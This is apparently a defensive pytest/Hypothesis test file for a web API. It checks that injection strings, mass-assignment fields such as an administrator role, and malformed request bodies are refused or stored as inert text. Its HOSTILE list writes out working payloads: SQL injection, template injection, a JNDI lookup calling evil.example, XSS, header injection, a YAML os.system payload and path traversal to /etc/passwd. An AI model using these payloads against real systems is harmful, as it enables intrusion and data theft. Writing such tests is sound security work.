"""What arrives may be anything: S6 injection, S8 mass assignment, S10 bodies that are no bodies."""

from __future__ import annotations

import json
from datetime import UTC, datetime

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from api.bodies import Malformed, parse
from api.envelope import answer
from api.pagination import decode_cursor, encode_cursor
from tests.support.api import PASSWORD, Api, error_of

HOSTILE = [
    "'; DROP TABLE users; --",
    "\" OR 1=1 /*",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "Eve\r\nBcc: everybody@example.com\r\n\r\nbody",
    "name: &a [*a]\n--- !!python/object/apply:os.system ['id']",
    "../../../../etc/passwd",
    "%s%s%s%n %(x)s :name",
    "\u202egnp.exe\u2066",
]  # fmt: skip


@pytest.mark.scenario("S6")
async def test_hostile_names_are_stored_and_shown_as_text(api: Api) -> None:
    ada = await api.customer()
    for text in HOSTILE:
        answer = await ada.http.patch("/users/me", json={"name": text, "organization": {"name": text}})
        assert answer.status_code == 200, answer.text
        data = (await ada.http.get("/users/me")).json()["data"]
        kept = data["name"]
        assert kept == data["organization"]["name"]
        # Nothing is interpreted, and nothing can end a header line or turn the reading direction.
        assert all(character.isprintable() for character in kept)
        assert [word for word in kept.split() if word] == kept.split(" ")
        visible = "".join(character if character.isprintable() else " " for character in text)
        assert kept.split() == visible.split()
        assert answer.headers["Content-Type"] == "application/json"
    assert api.rows("SELECT count(*) AS n FROM users") == [{"n": 1}]


@pytest.mark.scenario("S6")
async def test_hostile_text_in_every_other_place_is_refused_or_inert(api: Api) -> None:
    ada = await api.customer()
    for text in HOSTILE:
        for body in (
            {"email": text, "password": PASSWORD, "name": "Eve"},
            {"email": "eve@example.com", "password": PASSWORD, "name": "Eve", "timezone": text},
            {"email": "eve@example.com", "password": PASSWORD, "name": "Eve", "currency": text},
            {"email": "eve@example.com", "password": PASSWORD, "name": "Eve", "country": text},
        ):
            answer = await api.http.post("/auth/register", json=body)
            assert (answer.status_code, error_of(answer)["code"]) == (422, "VALIDATION_ERROR"), body
        answer = await api.http.post("/auth/login", json={"email": text, "password": text})
        assert answer.status_code == 401
        assert (await api.http.post("/auth/refresh", json={"refresh_token": text})).status_code == 401
        assert (await api.http.post("/auth/verify-email", json={"token": text})).status_code == 422
        page = await api.http.get("http://api/verify-email", params={"token": text})
        assert page.status_code == 200
        assert "<script>alert" not in page.text
        answer = await ada.http.request("DELETE", "/users/me/sessions/x", params={"q": text})
        assert answer.status_code == 404
        answer = await ada.http.get(
            "/users/me", headers={b"User-Agent": text.encode("ascii", "ignore").split(b"\r")[0]}
        )
        assert answer.status_code == 200


@pytest.mark.scenario("S6")
async def test_a_hostile_address_of_mail_is_no_address(api: Api) -> None:
    for email in (
        "eve@example.com\r\nBcc: a@example.com", "eve@example.com,other@example.com", '"a b"@example.com',
        "Eve <eve@example.com>", "eve@exa mple.com", "eve@[127.0.0.1]", "eve@example.com\u0000",
    ):  # fmt: skip
        answer = await api.http.post("/auth/register", json={"email": email, "password": PASSWORD, "name": "Eve"})
        assert answer.status_code in (400, 422), email
    assert api.rows("SELECT id FROM users") == []


@pytest.mark.scenario("S8")
async def test_nobody_assigns_themselves_a_role_a_balance_or_a_verification(api: Api) -> None:
    extra = {
        "role": "ADMINISTRATOR", "email_verified": True, "email_verified_at": "2026-01-01T00:00:00Z",
        "id": "usr_mine", "user_id": "usr_mine", "organization_id": "org_mine", "balance": 10**9, "status": "active",
        "disabled_at": None, "organization": {"id": "org_mine", "currency": "USD"}, "membership": "owner",
    }  # fmt: skip
    registration = {"email": "ada@example.com", "password": PASSWORD, "name": "Ada", "currency": "EUR"}
    answer = await api.http.post("/auth/register", json=registration | extra)
    assert answer.status_code == 201
    user = answer.json()["data"]["user"]
    assert (user["role"], user["email_verified"]) == ("USER", False)
    assert user["id"] != "usr_mine"
    assert answer.json()["data"]["organization"]["currency"] == "EUR"

    ada = await api.customer()
    before = api.rows("SELECT * FROM users WHERE id = %s", ada.user_id)[0]
    organization = api.rows("SELECT * FROM organizations WHERE id = %s", ada.organization_id)[0]
    organization_extra = {"organization": {"currency": "EUR", "id": "org_mine", "name": "Mine", "balance": 1}}
    answer = await ada.http.patch("/users/me", json=extra | {"name": "Ada"} | organization_extra)
    assert answer.status_code == 200
    changed = {"updated_at"}
    after = api.rows("SELECT * FROM users WHERE id = %s", ada.user_id)[0]
    assert {name for name in before if before[name] != after[name]} <= changed
    now = api.rows("SELECT * FROM organizations WHERE id = %s", ada.organization_id)[0]
    assert {name for name in organization if organization[name] != now[name]} == {"name", "updated_at"}
    assert api.rows("SELECT count(*) AS n FROM users WHERE role <> 'USER'") == [{"n": 0}]


def deep(levels: int) -> bytes:
    return b'{"a":' * levels + b"1" + b"}" * levels


BODIES: list[tuple[str, bytes, str, set[int]]] = [
    ("nothing", b"", "application/json", {422}),
    ("cut short", b'{"email": "a', "application/json", {400}),
    ("no JSON", b"email=a&password=b", "application/json", {400}),
    ("a form", b"email=a&password=b", "application/x-www-form-urlencoded", {422}),
    ("no type", b'{"email": "a@example.com", "password": "x"}', "", {422}),
    ("Latin-1", '{"email": "é@example.com", "password": "x"}'.encode("latin-1"), "application/json", {400}),
    ("UTF-16", '{"email": "a@example.com", "password": "x"}'.encode("utf-16"), "application/json", {400}),
    ("a byte order mark", b'\xef\xbb\xbf{"email": "a", "password": "x"}', "application/json", {400}),
    ("a key twice", b'{"email": "a@b.c", "email": "d@e.f", "password": "x"}', "application/json", {400}),
    ("a key twice inside", b'{"a": {"b": 1, "b": 2}}', "application/json", {400}),
    ("NaN", b'{"email": NaN, "password": "x"}', "application/json", {400}),
    ("infinity", b'{"email": -Infinity, "password": "x"}', "application/json", {400}),
    ("beyond a float", b'{"email": 1e999, "password": "x"}', "application/json", {400}),
    ("a long number", b'{"email": ' + b"9" * 5000 + b', "password": "x"}', "application/json", {400}),
    ("a NUL", b'{"email": "a\\u0000b", "password": "x"}', "application/json", {400}),
    ("a NUL in a key", b'{"a\\u0000b": 1}', "application/json", {400}),
    ("half a surrogate", b'{"email": "\\ud800", "password": "x"}', "application/json", {400}),
    ("deep", deep(40), "application/json", {400}),
    ("very deep", deep(20_000), "application/json", {400}),
    ("deep lists", b"[" * 100_000, "application/json", {400}),
    ("a list", b"[]", "application/json", {422}),
    ("a string", b'"hello"', "application/json", {422}),
    ("null", b"null", "application/json", {422}),
    ("large", b'{"email": "' + b"a" * 300_000 + b'", "password": "x"}', "application/json", {413}),
    ("wrong types", b'{"email": {"$gt": ""}, "password": ["x"]}', "application/json", {422}),
    ("garbage", bytes(range(256)), "application/json", {400}),
    ("garbage elsewhere", bytes(range(256)), "application/octet-stream", {422}),
]


@pytest.mark.scenario("S10")
async def test_bodies_that_are_none_are_refused_with_a_code(api: Api) -> None:
    ada = await api.customer()
    for name, body, kind, statuses in BODIES:
        for client, method, path in ((api.http, "POST", "/auth/login"), (ada.http, "PATCH", "/users/me")):
            headers = {"Content-Type": kind} if kind else {}
            answer = await client.request(method, path, content=body, headers=headers)
            allowed = statuses | ({200} if statuses == {422} and path == "/users/me" else set())
            assert answer.status_code in allowed, (name, path, answer.text)
            if answer.status_code >= 400:
                codes = {400: "MALFORMED_REQUEST", 413: "PAYLOAD_TOO_LARGE", 422: "VALIDATION_ERROR"}
                assert error_of(answer)["code"] == codes[answer.status_code], name


@pytest.mark.scenario("S10")
async def test_a_body_without_a_length_is_measured_as_it_comes(api: Api) -> None:
    sent = 0

    async def pieces(count: int):  # type: ignore[no-untyped-def] # httpx takes any asynchronous iterable of bytes
        nonlocal sent
        for _ in range(count):
            sent += 1
            yield b" " * 65_536

    answer = await api.http.post("/auth/login", content=pieces(10), headers={"Content-Type": "application/json"})
    assert (answer.status_code, error_of(answer)["code"]) == (413, "PAYLOAD_TOO_LARGE")
    assert error_of(answer)["details"]["limit"] == 256 * 1024


@pytest.mark.scenario("S10")
async def test_addresses_with_nul_or_broken_encoding_are_refused(api: Api) -> None:
    ada = await api.customer()
    for path, status in (
        ("/users/me/sessions/a%00b", 400), ("/users/me?x=%00", 400), ("/users/me/sessions/%ff%fe", 404),
        ("/users/me/sessions/" + "a" * 5000, 422), ("/users/me?x=%ff%fe", 200),
    ):  # fmt: skip
        method = "DELETE" if "sessions" in path else "GET"
        answer = await ada.http.request(method, path)
        assert answer.status_code == status, path


JSON = st.recursive(
    st.none() | st.booleans() | st.integers(-(10**30), 10**30) | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00")),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(st.characters(exclude_categories=["Cs"],
    exclude_characters="\x00")), inner, max_size=4),
    max_leaves=20,
)  # fmt: skip


@pytest.mark.scenario("S10")
@given(value=JSON)
@hypothesis_settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_whatever_is_proper_json_is_read_as_the_standard_library_reads_it(value: object) -> None:
    body = json.dumps(value, ensure_ascii=False).encode()
    assert parse(body) == json.loads(body)


@pytest.mark.scenario("S10")
@given(body=st.binary(max_size=200))
@hypothesis_settings(max_examples=150, deadline=None)
def test_whatever_arrives_is_read_or_refused(body: bytes) -> None:
    try:
        value = parse(body)
    except Malformed:
        return
    assert json.loads(body) == value


@pytest.mark.scenario("S10")
@given(value=JSON)
@hypothesis_settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_whatever_was_stored_can_be_answered(value: object) -> None:
    assert json.loads(bytes(answer({"document": value, "at": datetime(2027, 1, 31, tzinfo=UTC)}).body)) | {
        "timestamp": ""
    } == {
        "success": True, "message": "OK", "timestamp": "",
        "data": {"document": value, "at": "2027-01-31T00:00:00Z"},
    }  # fmt: skip


@given(place=st.lists(st.integers() | st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))))
@hypothesis_settings(max_examples=60, deadline=None)
def test_cursors_come_back_as_they_went(place: list[str | int]) -> None:
    small = [part for part in place if not isinstance(part, int) or abs(part) < 2**63]
    assert decode_cursor(encode_cursor(*small)) == tuple(small)
